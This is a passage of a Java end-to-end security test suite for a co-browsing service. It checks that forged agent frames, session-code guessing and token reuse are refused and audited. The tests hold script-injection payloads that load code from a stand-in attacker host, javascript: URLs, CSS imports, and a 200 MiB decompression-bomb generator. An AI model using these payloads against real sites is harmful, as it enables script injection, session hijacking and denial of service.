        for (int parent = 1; parent <= 60; parent++) {
            adds.addObject().put("parentId", parent).putNull("nextId")
                    .set("node", g.el("script", Map.of("src", ATTACKER + "/added.js"), g.text(RUN_JS)));
        }
        var attrs = m.putArray("attrs");
        for (int id = 1; id <= 60; id++) {
            attrs.addObject().put("id", id).put("name", "onclick").put("value", RUN_JS);
            attrs.addObject().put("id", id).put("name", "src").put("value", "javascript:" + RUN_JS);
            attrs.addObject().put("id", id).put("name", "href").put("value", "javascript:" + RUN_JS);
            attrs.addObject().put("id", id).put("name", "srcdoc").put("value", "<script>" + RUN_JS + "</script>");
            attrs.addObject().put("id", id).put("name", "style").put("value", "background:url(" + ATTACKER + "/attr.png)");
            attrs.addObject().put("id", id).put("name", "http-equiv").put("value", "refresh");
            attrs.addObject().put("id", id).put("name", "content").put("value", "0;url=" + ATTACKER + "/refresh2");
        }
        var texts = m.putArray("texts");
        for (int id = 1; id <= 60; id++) {
            texts.addObject().put("id", id).put("value", "@import url(" + ATTACKER + "/text.css); " + RUN_JS);
        }
        var sheets = m.putArray("sheets");
        var adopted = m.putArray("adopted");
        for (int id = 1; id <= 60; id++) {
            sheets.addObject().put("id", id).put("css", "@import url(" + ATTACKER + "/sheet2.css); body{background:url("
                    + ATTACKER + "/sheet2.png)}");
            adopted.addObject().put("id", id).putArray("sheets").add("body{background:url(" + ATTACKER + "/adopted.png)}");
        }
        String input = JSON.createObjectNode().put("t", "input").put("seq", visitor.seq.incrementAndGet())
                .put("id", 30).put("value", "\"><script>" + RUN_JS + "</script>").toString();
        return List.of(m.toString(), input);
    }

    static ObjectNode ordinaryPage(Forged f, String step) {
        return f.document(f.el("head", Map.of()), f.el("body", Map.of(), f.el("h1", Map.of("id", "step"), f.text(step)),
                f.el("p", Map.of(), f.text("An ordinary page after the hostile ones."))));
    }

    /** {@code depth} nested divs with the step marker at the top. */
    static ObjectNode nested(Forged f, int depth, String step) {
        ObjectNode inner = f.el("span", Map.of(), f.text("the bottom"));
        for (int i = 0; i < depth; i++) {
            inner = f.el("div", Map.of(), inner);
        }
        return f.document(f.el("head", Map.of()), f.el("body", Map.of(), f.el("h1", Map.of("id", "step"), f.text(step)), inner));
    }

    /** A text snapshot {@code depth} divs deep, written by hand (Jackson refuses to write that deep). */
    static String tooDeepSnapshot(ForgedVisitor visitor, int depth) {
        Forged f = new Forged();
        ObjectNode root = f.document(f.el("head", Map.of()), f.el("body", Map.of(), f.text("@@DEEP@@")));
        String snapshot = Forged.snapshot(visitor.seq.incrementAndGet(), visitor.snapshotIds.incrementAndGet(), pageUrl(),
                root).toString();
        StringBuilder deep = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            deep.append("{\"id\":").append(3_000_000 + i).append(",\"type\":1,\"tag\":\"div\",\"attrs\":{},\"children\":[");
        }
        deep.append("]}".repeat(depth));
        return snapshot.replaceFirst("\\{\"id\":(\\d+),\"type\":3,\"text\":\"@@DEEP@@\"\\}", Matcher.quoteReplacement(deep.toString()));
    }

    /** A chunked snapshot of {@code paragraphs} paragraphs, appended through snapshot.part records. */
    static List<byte[]> hugeDocument(long snapshotId, int paragraphs, String step) {
        Forged f = new Forged();
        ObjectNode body = f.el("body", Map.of(), f.el("h1", Map.of("id", "step"), f.text(step)));
        ObjectNode root = f.document(f.el("head", Map.of()), body);
        int bodyId = body.path("id").asInt();
        StringBuilder ndjson = new StringBuilder(Forged.snapshot(null, snapshotId, pageUrl(), root).toString()).append('\n');
        int next = 1_000_000;
        for (int batch = 0; batch < paragraphs / 1000; batch++) {
            StringBuilder record = new StringBuilder("{\"t\":\"snapshot.part\",\"appends\":[{\"id\":" + bodyId + ",\"nodes\":[");
            for (int i = 0; i < 1000; i++) {
                if (i > 0) {
                    record.append(',');
                }
                record.append("{\"id\":").append(next++).append(",\"type\":1,\"tag\":\"p\",\"attrs\":{\"title\":\"")
                        .append("x".repeat(20)).append("\"},\"children\":[{\"id\":").append(next++)
                        .append(",\"type\":3,\"text\":\"paragraph ").append(batch * 1000 + i).append("\"}]}");
            }
            ndjson.append(record).append("]}]}\n");
        }
        return parts(ndjson.toString().getBytes(StandardCharsets.UTF_8));
    }

    /** A snapshot whose body holds {@code depth} nested divs, in one record inside a chunk. */
    static List<byte[]> deepChunked(long snapshotId, int depth) {
        Forged f = new Forged();
        ObjectNode body = f.el("body", Map.of(), f.el("h1", Map.of("id", "step"), f.text("HOSTILE-DEEP")));
        ObjectNode root = f.document(f.el("head", Map.of()), body);
        String snapshot = Forged.snapshot(null, snapshotId, pageUrl(), root).toString();
        StringBuilder deep = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            deep.append("{\"id\":").append(2_000_000 + i).append(",\"type\":1,\"tag\":\"div\",\"attrs\":{},\"children\":[");
        }
        deep.append("]}".repeat(depth));
        String part = "{\"t\":\"snapshot.part\",\"appends\":[{\"id\":" + body.path("id").asInt() + ",\"nodes\":[" + deep + "]}]}";
        return parts((snapshot + "\n" + part + "\n").getBytes(StandardCharsets.UTF_8));
    }

    /** One part that inflates to 200 MiB of spaces (about 200 KiB on the wire). */
    static List<byte[]> inflationBomb(long snapshotId) {
        java.util.zip.Deflater deflater = new java.util.zip.Deflater(9, true);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] spaces = new byte[1 << 20];
        java.util.Arrays.fill(spaces, (byte) ' ');
        byte[] buffer = new byte[64 * 1024];
        for (int i = 0; i < 200; i++) {
            deflater.setInput(spaces);
            while (!deflater.needsInput()) {
                out.write(buffer, 0, deflater.deflate(buffer));
            }
        }
        deflater.finish();
        while (!deflater.finished()) {
            out.write(buffer, 0, deflater.deflate(buffer));
        }
        deflater.end();
        return List.of(out.toByteArray());
    }

    /** Splits raw NDJSON into parts of at most 192 KiB, each deflated on its own. */
    static List<byte[]> parts(byte[] raw) {
        List<byte[]> parts = new ArrayList<>();
        int size = 192 * 1024;
        for (int from = 0; from < raw.length; from += size) {
            parts.add(Chunks.deflate(java.util.Arrays.copyOfRange(raw, from, Math.min(raw.length, from + size))));
        }
        return parts;
    }

    // =========================================================================================
    // 3. Hostile agent in view-only mode
    // =========================================================================================

    @Test
    @Order(4)
    void aViewOnlyAgentsForgedControlFramesDoNothingOnTheVisitorsPageAndAreCountedAndAudited() throws Exception {
        // The agent's real OIDC access token, without the console (signed in through Keycloak).
        String accessToken = userToken("agent1");
        List<String> visitorReceived = new CopyOnWriteArrayList<>();
        List<String> visitorDialogs = new CopyOnWriteArrayList<>();
        AcceptedInvite accepted = visitorAcceptsAnInviteOf(accessToken, "VIEW_ONLY", page -> {
            page.onWebSocket(ws -> ws.onFrameReceived(f -> visitorReceived.add(String.valueOf(f.text()))));
            page.onDialog(d -> {
                visitorDialogs.add(d.message());
                d.dismiss();
            });
        });
        BrowserContext visitorContext = accepted.visitorContext();
        Page visitor = accepted.visitor();
        String apply = accepted.page();
        String sessionId = accepted.sessionId();
        String joinToken = accepted.joinToken();

        double dropsBefore = gatewayDrops("view-only");
        RawSocket agent = RawSocket.open(stack.gateway(), "/ws/agent", origin(stack.gateway()), joinToken, accessToken, null);
        // The visitor's tag is connected too (its hello says so, or a peer frame tells it later): a frame
        // relayed while it is not would reach nobody, and the check below would prove nothing.
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30)).until(() -> agent.received().stream().anyMatch(t ->
                (t.contains("\"hello\"") && t.contains("\"peerConnected\":true"))
                        || (t.contains("\"peer\"") && t.contains("\"visitor\"") && t.contains("\"connected\":true"))));

        // Forged control: clicks and typing on every node id the page could have, navigation, keys.
        List<String> forged = new ArrayList<>();
        for (int id = 1; id <= 120; id++) {
            forged.add("{\"t\":\"click\",\"id\":" + id + ",\"x\":10,\"y\":10}");
            forged.add("{\"t\":\"type\",\"id\":" + id + ",\"value\":\"HOSTILE-AGENT\"}");
        }
        forged.add("{\"t\":\"navigate\",\"url\":\"" + ATTACKER + "/navigate\"}");
        forged.add("{\"t\":\"navigate\",\"url\":\"javascript:alert('PWNED')\"}");
        forged.add("{\"t\":\"key\",\"key\":\"Enter\"}");
        forged.add("{\"t\":\"key\",\"key\":\"Tab\"}");
        forged.add("{\"t\":\"select\",\"id\":5,\"value\":\"backpacker\"}");
        forged.add("{\"t\":\"check\",\"id\":6,\"checked\":true}");
        forged.add("{\"t\":\"scroll-to\",\"x\":0,\"y\":5000}");
        for (String frame : forged) {
            agent.send(frame);
        }
        // A frame the agent may send, after them: once the visitor has it, the forged ones were handled before.
        agent.send("{\"t\":\"highlight\",\"x\":12,\"y\":34}");
        // Playwright for Java delivers the visitor page's frame events only while a Playwright call runs
        visitor.waitForCondition(() -> visitorReceived.stream().anyMatch(t -> t.contains("\"highlight\"")),
                new Page.WaitForConditionOptions().setTimeout(20_000));

        Set<String> controlTypes = Set.of("click", "type", "navigate", "key", "select", "check", "scroll-to");
        List<String> reached = visitorReceived.stream()
                .filter(t -> controlTypes.stream().anyMatch(c -> t.contains("\"t\":\"" + c + "\""))).toList();
        assertEquals(List.of(), reached, "forged control frames reached the visitor's tag");
        assertEquals(apply, visitor.url(), "the visitor's page did not navigate");
        assertEquals("", visitor.locator("#full-name").inputValue());
        assertFalse(visitor.locator("#terms").isChecked());
        assertEquals("annual", visitor.locator("#plan").inputValue());
        assertEquals("", visitor.locator("#application-result").textContent().strip(), "nothing was submitted");
        assertEquals(List.of(), visitorDialogs);
        assertFalse(agent.closed().isDone(), "a dropped control frame keeps the connection");
        double counted = gatewayDrops("view-only") - dropsBefore;
        assertEquals(forged.size(), (int) counted, "each forged frame is counted in tandem_gateway_drops_total");

        // Audited: one ActionRefused per type (at most one per type and interval), in session-service's trail.
        Set<String> expected = new TreeSet<>(controlTypes);
        AtomicReference<JsonNode> trail = new AtomicReference<>();
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30)).until(() -> {
            HttpResponse<String> audit = get(stack.sessionService().resolve("/api/sessions/" + sessionId + "/audit"),
                    launcherToken());
            if (audit.statusCode() != 200) {
                return false;
            }
            trail.set(JSON.readTree(audit.body()));
            Set<String> refused = new TreeSet<>();
            for (JsonNode e : trail.get().path("entries")) {
                if ("ACTION_REFUSED".equals(e.path("kind").asText())) {
                    refused.add(e.path("messageType").asText());
                    assertEquals("view-only", e.path("reason").asText(), e.toString());
                    assertEquals("AGENT", e.path("role").asText(), e.toString());
                }
            }
            return refused.equals(expected);
        });
        assertFalse(trail.get().toString().contains("HOSTILE-AGENT"), "the audit holds no content");

        agent.send("{\"t\":\"end\"}");
        assertThat(visitor.getByTestId("tandem-frame")).isHidden(new com.microsoft.playwright.assertions.LocatorAssertions
                .IsHiddenOptions().setTimeout(20_000));
        agent.close();
        visitorContext.close();
    }

    /** A visitor in Chromium on the demo form who accepted agent1's invite, and agent1's join token for it. */
    record AcceptedInvite(BrowserContext visitorContext, Page visitor, String page, String sessionId, String joinToken) {
    }

    /**
     * Ends whatever session agent1 has, opens the demo form in a new visitor browser ({@code watch} sets its
     * listeners before the page loads), has the demo chat invite agent1 in {@code mode}, accepts, and takes
     * agent1's join token for the session (checking its mode).
     */
    private AcceptedInvite visitorAcceptsAnInviteOf(String accessToken, String mode, java.util.function.Consumer<Page> watch)
            throws Exception {
        endLiveSession(accessToken);
        BrowserContext visitorContext = browser.newContext(new Browser.NewContextOptions().setViewportSize(1280, 800));
        Page visitor = visitorContext.newPage();
        watch.accept(visitor);
        String apply = stack.demoSite().resolve("/apply.html").toString();
        visitor.navigate(apply);
        visitor.getByTestId("chat-toggle").click();
        String chatId = visitor.getByTestId("chat-id").textContent().strip();
        demoChatInvite(chatId, "agent1", mode);
        assertThat(visitor.getByTestId("tandem-consent")).isVisible(LONG);
        visitor.getByTestId("tandem-accept").click();
        assertThat(visitor.getByTestId("tandem-frame")).isVisible(LONG);

        String sessionId = awaitOwnSession(accessToken).path("sessionId").asText();
        HttpResponse<String> joined = post(stack.sessionService().resolve("/api/sessions/" + sessionId + "/join-token"),
                "", accessToken);
        assertEquals(200, joined.statusCode(), joined.body());
        assertEquals(mode, JSON.readTree(joined.body()).path("mode").asText());
        return new AcceptedInvite(visitorContext, visitor, apply, sessionId,
                JSON.readTree(joined.body()).path("joinToken").asText());
    }

    // =========================================================================================
    // 3b. Hostile agent in shared mode
    // =========================================================================================

    @Test
    @Order(5)
    void aSharedModeAgentCannotSubmitTouchSecretFieldsOrNavigateAwayAndEachRefusalIsAudited() throws Exception {
        String accessToken = userToken("agent1");
        List<String> visitorDialogs = new CopyOnWriteArrayList<>();
        List<String> visitorRequests = new CopyOnWriteArrayList<>();
        AcceptedInvite accepted = visitorAcceptsAnInviteOf(accessToken, "SHARED", page -> {
            page.onDialog(d -> {
                visitorDialogs.add(d.message());
                d.dismiss();
            });
            page.onRequest(request -> {
                if (foreign(request.url()) || request.url().startsWith("javascript:")) {
                    visitorRequests.add(request.url());
                }
            });
            // Any form submitted on the visitor's pages, from the first script on.
            page.addInitScript("window.addEventListener('submit', () => { window.__submitted = true; }, true)");
        });
        BrowserContext visitorContext = accepted.visitorContext();
        Page visitor = accepted.visitor();
        String apply = accepted.page();
        String sessionId = accepted.sessionId();
        String joinToken = accepted.joinToken();

        // A raw agent (real tokens) gets the visitor's snapshot and with it the node ids of the form.
        RawSocket agent = RawSocket.open(stack.gateway(), "/ws/agent", origin(stack.gateway()), joinToken, accessToken, null);
        AtomicReference<Map<String, Integer>> ids = new AtomicReference<>();
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(250)).until(() -> {
            Map<String, Integer> found = formNodeIds(agent);
            ids.set(found);
            return found.keySet().containsAll(List.of("full-name", "password", "security-answer", "submit"));
        });
        int fullName = ids.get().get("full-name");
        int password = ids.get().get("password");
        int secret = ids.get().get("security-answer");
        int submit = ids.get().get("submit");

        // What an agent may do in shared mode works: typing into an ordinary field (the case can fail).
        agent.send("{\"t\":\"type\",\"id\":" + fullName + ",\"text\":\"Typed by the agent\"}");
        assertThat(visitor.locator("#full-name")).hasValue("Typed by the agent",
                new LocatorAssertions.HasValueOptions().setTimeout(15_000));

        // What it may never do.
        Map<String, String> attempts = new java.util.LinkedHashMap<>();
        attempts.put("{\"t\":\"click\",\"id\":" + submit + "}", "click/submit");
        attempts.put("{\"t\":\"key\",\"id\":" + fullName + ",\"key\":\"Enter\"}", "key/submit");
        attempts.put("{\"t\":\"type\",\"id\":" + password + ",\"text\":\"HOSTILE-AGENT-PASSWORD\"}", "type/secret-field");
        attempts.put("{\"t\":\"type\",\"id\":" + secret + ",\"text\":\"HOSTILE-AGENT-SECRET\"}", "type/secret-field");
        attempts.put("{\"t\":\"navigate\",\"action\":\"go\",\"url\":\"" + ATTACKER + "/navigate\"}", "navigate/other-origin");
        attempts.put("{\"t\":\"navigate\",\"action\":\"go\",\"url\":\"javascript:alert('PWNED')\"}", "navigate/unsafe-url");
        for (String frame : attempts.keySet()) {
            agent.send(frame);
        }
        // Each one answered with `refused` and its reason.
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(20)).until(() -> agent.received().stream()
                .filter(t -> t.contains("\"t\":\"refused\"")).count() >= attempts.size());
        Set<String> answered = new TreeSet<>();
        for (String t : agent.received()) {
            if (t.contains("\"t\":\"refused\"")) {
                JsonNode r = JSON.readTree(t);
                answered.add(r.path("action").asText() + "/" + r.path("reason").asText());
            }
        }
        assertEquals(new TreeSet<>(attempts.values()), answered, "the tag's answers");

        // Nothing happened on the visitor's page.
        assertEquals(apply, visitor.url(), "the visitor's page did not navigate");
        assertEquals("", visitor.locator("#password").inputValue(), "the password field");
        assertEquals("", visitor.locator("#security-answer").inputValue(), "the masked field");
        assertEquals(null, visitor.evaluate("() => window.__submitted ?? null"), "the form was not submitted");
        assertEquals("", visitor.locator("#application-result").textContent().strip(), "nothing was submitted");
        assertEquals(List.of(), visitorDialogs);
        assertEquals(List.of(), visitorRequests, "requests the visitor's page made elsewhere");
        assertEquals(List.of(), attackerHits, "the attacker's server was reached");
        assertFalse(agent.closed().isDone(), "a refused action keeps the connection");

        // Audited: an ActionRefused per kind of attempt, with the tag's reason, and no content.
        AtomicReference<JsonNode> trail = new AtomicReference<>();
        Set<String> audited = new TreeSet<>();
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30)).until(() -> {
            HttpResponse<String> audit = get(stack.sessionService().resolve("/api/sessions/" + sessionId + "/audit"),
                    launcherToken());
            if (audit.statusCode() != 200) {
                return false;
            }
            trail.set(JSON.readTree(audit.body()));
            audited.clear();
            for (JsonNode e : trail.get().path("entries")) {
                if ("ACTION_REFUSED".equals(e.path("kind").asText())) {
                    assertEquals("AGENT", e.path("role").asText(), e.toString());
                    audited.add(e.path("messageType").asText() + "/" + e.path("reason").asText());
                }
            }
            return audited.containsAll(attempts.values());
        });
        assertEquals(new TreeSet<>(attempts.values()), audited, "refusals in the audit trail");
        assertFalse(trail.get().toString().contains("HOSTILE-AGENT") || trail.get().toString().contains(ATTACKER),
                "the audit holds no content");

        agent.send("{\"t\":\"end\"}");
        assertThat(visitor.getByTestId("tandem-frame")).isHidden(new com.microsoft.playwright.assertions.LocatorAssertions
                .IsHiddenOptions().setTimeout(20_000));
        agent.close();
        visitorContext.close();
    }

    /** Node ids of the demo form's fields and its submit button, from the snapshot the raw agent received. */
    private static Map<String, Integer> formNodeIds(RawSocket agent) throws Exception {
        List<JsonNode> records = new ArrayList<>();
        for (String t : agent.received()) {
            if (t.contains("\"t\":\"snapshot\"")) {
                records.add(JSON.readTree(t));
            }
        }
        StringBuilder chunked = new StringBuilder();
        for (byte[] frame : agent.binaryReceived()) {
            chunked.append(new String(Chunks.decode(frame, 64 * 1024 * 1024).payload(), StandardCharsets.UTF_8));
        }
        for (String line : chunked.toString().split("\n")) {
            if (!line.isBlank()) {
                try {
                    records.add(JSON.readTree(line));
                } catch (Exception partial) {
                    // a record still waiting for its next part
                }
            }
        }
        Map<String, Integer> ids = new java.util.HashMap<>();
        java.util.ArrayDeque<JsonNode> todo = new java.util.ArrayDeque<>(records);
        while (!todo.isEmpty()) {
            JsonNode node = todo.pop();
            if (node.isObject()) {
                JsonNode attrs = node.path("attrs");
                if (node.path("id").isInt() && attrs.isObject()) {
                    String elementId = attrs.path("id").asText("");
                    if (List.of("full-name", "password", "security-answer").contains(elementId)) {
                        ids.put(elementId, node.path("id").asInt());
                    }
                    if ("button".equals(node.path("tag").asText()) && "submit".equals(attrs.path("type").asText())) {
                        ids.put("submit", node.path("id").asInt());
                    }
                }
                node.elements().forEachRemaining(todo::push);
            } else if (node.isArray()) {
                node.elements().forEachRemaining(todo::push);
            }
        }
        return ids;
    }

    static double gatewayDrops(String reason) throws Exception {
        HttpResponse<String> metrics = get(stack.gateway().resolve("/q/metrics"), null);
        assertEquals(200, metrics.statusCode());
        Matcher m = Pattern.compile("(?m)^tandem_gateway_drops_total\\{[^}]*reason=\"" + Pattern.quote(reason)
                + "\"[^}]*\\} ([0-9.eE+-]+)$").matcher(metrics.body());
        return m.find() ? Double.parseDouble(m.group(1)) : 0;
    }

    // =========================================================================================
    // 4. Guessing and hijacking
    // =========================================================================================

    @Test
    @Order(6)
    void guessedCodesAndWrongTokensGetTheSameAnswerAsNothingAndLookupsAreRateLimited() throws Exception {
        // agent1's live session, opened through the APIs.
        String agent1 = userToken("agent1");
        String agent2 = userToken("agent2");
        endLiveSession(agent1);
        endLiveSession(agent2);
        Invite invite = invite("agent1", "guessing-" + RUN, SITE, "VIEW_ONLY");
        String visitorToken = visitorJoinToken(invite.credential());
        JsonNode tokenClaims = claims(visitorToken);
        String sessionId = tokenClaims.path("sid").asText();
        HttpResponse<String> own = get(stack.sessionService().resolve("/api/agents/me/session"), agent1);
        assertEquals(200, own.statusCode(), own.body());
        String code = JSON.readTree(own.body()).path("code").asText();
        assertTrue(code.matches("\\d{9}"), code);
        String unused = code.equals("999999999") ? "999999998" : "999999999";

        // Another agent with the code: the same answer as a code no session shows.
        Answer guessed = answer(get(byCode(code), agent2));
        Answer nothing = answer(get(byCode(unused), agent2));
        assertEquals(403, guessed.status());
        assertEquals(nothing, guessed, "another agent's code vs a code that does not exist");
        assertEquals(200, get(byCode(code), agent1).statusCode(), "the session's own agent finds it");
        // ... and the session id it might have learnt: the same answer as an id that does not exist.
        Answer otherSession = answer(post(stack.sessionService().resolve("/api/sessions/" + sessionId + "/join-token"), "", agent2));
        Answer noSession = answer(post(stack.sessionService().resolve("/api/sessions/" + java.util.UUID.randomUUID()
                + "/join-token"), "", agent2));
        assertEquals(404, otherSession.status());
        assertEquals(noSession, otherSession, "another agent's session id vs an id that does not exist");

        // A visitor with only the code: as a credential, anonymously, and as a join token at the gateway.
        Answer codeAsCredential = answer(visitorTokenCall(code));
        Answer unusedAsCredential = answer(visitorTokenCall(unused));
        assertTrue(codeAsCredential.status() >= 400, codeAsCredential.toString());
        assertEquals(unusedAsCredential, codeAsCredential, "the code as a credential vs a code that does not exist");
        String randomCredential = Base64.getUrlEncoder().withoutPadding().encodeToString(new SecureRandom().generateSeed(32));
        assertEquals(unusedAsCredential.status(), answer(visitorTokenCall(randomCredential)).status(),
                "a well-formed credential that does not exist");
        Answer anonymousCode = answer(get(byCode(code), null));
        Answer anonymousNothing = answer(get(byCode(unused), null));
        assertEquals(401, anonymousCode.status());
        assertEquals(anonymousNothing, anonymousCode);
        String demoOrigin = origin(stack.demoSite());
        RawSocket.Refusal garbage = RawSocket.refusal(stack.gateway(), "/ws/visitor", demoOrigin, "not-a-token", null);
        RawSocket.Refusal codeAsToken = RawSocket.refusal(stack.gateway(), "/ws/visitor", demoOrigin, code, null);
        assertEquals(403, garbage.status());
        assertEquals(garbage, codeAsToken, "the code as a join token vs garbage");
        // A visitor's token on the agents' socket.
        int asAgent = RawSocket.refusal(stack.gateway(), "/ws/agent", origin(stack.gateway()), visitorToken, null).status();
        assertTrue(asAgent == 401 || asAgent == 403, "a visitor's token on /ws/agent: " + asAgent);

        // Rate limited: agent2 keeps guessing; from the limit on, every code gets 429 with Retry-After.
        List<Integer> statuses = new ArrayList<>();
        HttpResponse<String> limited = null;
        for (int i = 0; i < 30 && limited == null; i++) {
            HttpResponse<String> r = get(byCode(String.format("%09d", 100_000_000 + i)), agent2);
            statuses.add(r.statusCode());
            if (r.statusCode() == 429) {
                limited = r;
            }
        }
        assertTrue(limited != null, "no 429 after " + statuses.size() + " guesses: " + statuses);
        assertTrue(limited.headers().firstValue("Retry-After").isPresent(), "Retry-After");
        assertEquals(429, get(byCode(code), agent2).statusCode(), "the real code is limited like any other");
        assertEquals(200, get(byCode(code), agent1).statusCode(), "other agents are not limited");

        // A join token of an ended session: refused like garbage.
        HttpResponse<String> ended = post(stack.sessionService().resolve("/api/sessions/" + sessionId + "/end"), "", agent1);
        assertEquals(204, ended.statusCode(), ended.body());
        List<String> findings = new ArrayList<>();
        try {
            RawSocket.Refusal endedToken = awaitRefusal(() -> RawSocket.refusal(stack.gateway(), "/ws/visitor", demoOrigin,
                    visitorToken, null));
            if (!garbage.equals(endedToken)) {
                findings.add("an ended session's join token got " + endedToken + ", garbage got " + garbage);
            }
        } catch (AssertionError accepted) {
            findings.add("the gateway accepts an ended session's visitor join token: " + accepted.getMessage());
        }
        Answer endedCode = answer(get(byCode(code), agent1));
        assertEquals(answer(get(byCode(unused), agent1)), endedCode, "an ended session's code vs a code that does not exist");

        // A join token for another site, presented from this site's page.
        String otherSite = "privacy-other-" + RUN;
        createSite(otherSite, ATTACKER);
        Invite other = invite("agent2", "other-site-" + RUN, otherSite, "VIEW_ONLY");
        String otherToken = visitorJoinToken(other.credential());
        assertEquals(otherSite, claims(otherToken).path("site").asText());
        try {
            RawSocket.Refusal otherSiteToken = awaitRefusal(() -> RawSocket.refusal(stack.gateway(), "/ws/visitor",
                    demoOrigin, otherToken, null));
            if (!garbage.equals(otherSiteToken)) {
                findings.add("another site's join token got " + otherSiteToken + ", garbage got " + garbage);
            }
        } catch (AssertionError accepted) {
            findings.add("the gateway accepts another site's visitor join token from the demo site's origin: "
                    + accepted.getMessage());
        }
        post(stack.sessionService().resolve("/api/sessions/" + claims(otherToken).path("sid").asText() + "/end"), "", agent2);
        System.out.println("[guessing] refusals: garbage=" + garbage + ", code lookups " + statuses + ", findings " + findings);
        assertEquals(List.of(), findings);
    }

    /** The upgrade may be accepted until the gateway has heard of the end or of the site: retry for 10 s. */
    private static RawSocket.Refusal awaitRefusal(Supplier<RawSocket.Refusal> attempt) {
        long deadline = System.nanoTime() + Duration.ofSeconds(10).toNanos();
        AssertionError last = null;
        while (System.nanoTime() < deadline) {
            try {
                return attempt.get();
            } catch (AssertionError accepted) {
                last = accepted;
                try {
                    Thread.sleep(250); // a poll interval, not a wait for an outcome
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                    throw accepted;
                }
            }
        }
        throw new AssertionError("still accepted after 10 s", last);
    }

    record Answer(int status, String type, String title, String detail) {
    }

    /** Status and problem fields, without {@code instance} (the path asked for). */
    private static Answer answer(HttpResponse<String> response) throws Exception {
        if (response.body() == null || response.body().isBlank()) {
            return new Answer(response.statusCode(), null, null, null);
        }
        JsonNode body = JSON.readTree(response.body());
        return new Answer(response.statusCode(), body.path("type").asText(null), body.path("title").asText(null),
                body.path("detail").asText(null));
    }

    private static URI byCode(String code) {
        return stack.sessionService().resolve("/api/sessions/by-code/" + code);
    }

    private static HttpResponse<String> visitorTokenCall(String credential) throws Exception {
        return send(HttpRequest.newBuilder(stack.sessionService().resolve("/api/visitor/session-token"))
                .header("Tandem-Invite-Credential", credential).POST(HttpRequest.BodyPublishers.noBody()));
    }

    private static JsonNode claims(String jwt) throws Exception {
        return JSON.readTree(Base64.getUrlDecoder().decode(jwt.split("\\.")[1]));
    }

    private static void createSite(String siteId, String allowedOrigin) throws Exception {
        ObjectNode body = JSON.createObjectNode().put("enabled", true);
        ObjectNode document = body.putObject("document");
        document.putArray("allowedOrigins").add(allowedOrigin);
        document.putArray("rules");
        document.putObject("appearance").put("borderColor", "#f5a623").put("highlightColor", "#ffd400")
                .put("matchViewport", true);
        document.putObject("modes").putArray("default").add("VIEW_ONLY");
        document.putObject("detectors").put("cardNumbers", true).put("usSsn", true);
        HttpResponse<String> saved = send(HttpRequest.newBuilder(stack.configService().resolve("/api/admin/sites/" + siteId))
                .header("Authorization", "Bearer " + launcherToken()).header("Content-Type", "application/json")
                .PUT(HttpRequest.BodyPublishers.ofString(body.toString())));
        assertTrue(saved.statusCode() == 200 || saved.statusCode() == 201, saved.statusCode() + " " + saved.body());
    }

    // =========================================================================================
    // Shared steps
    // =========================================================================================

    record Invite(String id, String credential) {
    }

    /** An invite through invite-service's API (as a chat platform), accepted with its credential (as the tag does). */
    static Invite invite(String agentId, String chatId, String siteId, String mode) throws Exception {
        ObjectNode body = JSON.createObjectNode().put("agentId", agentId).put("chatId", chatId).put("siteId", siteId)
                .put("mode", mode);
        HttpResponse<String> created = untilNotBusy(() -> post(stack.inviteService().resolve("/api/invites"), body.toString(),
                chatPlatformToken()));
        assertEquals(201, created.statusCode(), created.body());
        JsonNode invite = JSON.readTree(created.body());
        String credential = invite.path("visitor").path("credential").asText();
        assertFalse(credential.isEmpty(), created.body());
        HttpResponse<String> accepted = send(HttpRequest.newBuilder(stack.inviteService().resolve("/api/visitor/invite/accept"))
                .header("Tandem-Invite-Credential", credential).POST(HttpRequest.BodyPublishers.noBody()));
        assertEquals(200, accepted.statusCode(), accepted.body());
        return new Invite(invite.path("id").asText(), credential);
    }

    /** The demo chat platform invites (as its agent page does) and posts the invite into the visitor's chat. */
    static void demoChatInvite(String chatId, String agentId) throws Exception {
        demoChatInvite(chatId, agentId, "VIEW_ONLY");
    }

    static void demoChatInvite(String chatId, String agentId, String mode) throws Exception {
        HttpResponse<String> invited = untilNotBusy(() -> post(stack.demoSite().resolve("/demo-chat/api/chats/" + chatId
                + "/invite"), "{\"agentId\":\"" + agentId + "\",\"mode\":\"" + mode + "\"}", null));
        assertEquals(201, invited.statusCode(), invited.body());
    }

    interface Call {
        HttpResponse<String> send() throws Exception;
    }

    /**
     * An agent stays busy until invite-service has heard that its last session ended, and a new site is unknown
     * until it has read it from tandem.site-config: retry 409 and 404 for 20 s.
     */
    static HttpResponse<String> untilNotBusy(Call call) throws Exception {
        long deadline = System.nanoTime() + Duration.ofSeconds(20).toNanos();
        HttpResponse<String> r = call.send();
        while ((r.statusCode() == 409 || r.statusCode() == 404) && System.nanoTime() < deadline) {
            Thread.sleep(500); // a poll interval
            r = call.send();
        }
        return r;
    }

    /** The visitor's join token, as the tag gets it: retried while session-service is still opening the session. */
    static String visitorJoinToken(String credential) throws Exception {
        AtomicReference<String> token = new AtomicReference<>();
        AtomicReference<String> lastAnswer = new AtomicReference<>();
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(300)).until(() -> {
            HttpResponse<String> r = visitorTokenCall(credential);
            lastAnswer.set(r.statusCode() + " " + r.body());
            if (r.statusCode() == 200) {
                token.set(JSON.readTree(r.body()).path("joinToken").asText());
                return true;
            }
            assertEquals(404, r.statusCode(), r.body());
            return false;
        });
        return token.get();
    }

    static JsonNode awaitOwnSession(String accessToken) throws Exception {
        AtomicReference<JsonNode> session = new AtomicReference<>();
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(300)).until(() -> {
            HttpResponse<String> r = get(stack.sessionService().resolve("/api/agents/me/session"), accessToken);
            if (r.statusCode() == 200) {
                session.set(JSON.readTree(r.body()));
                return true;
            }
            return false;
        });
        return session.get();
    }

    /** Ends the agent's live session, if an earlier case left one. */
    static void endLiveSession(String accessToken) throws Exception {
        HttpResponse<String> live = get(stack.sessionService().resolve("/api/agents/me/session"), accessToken);
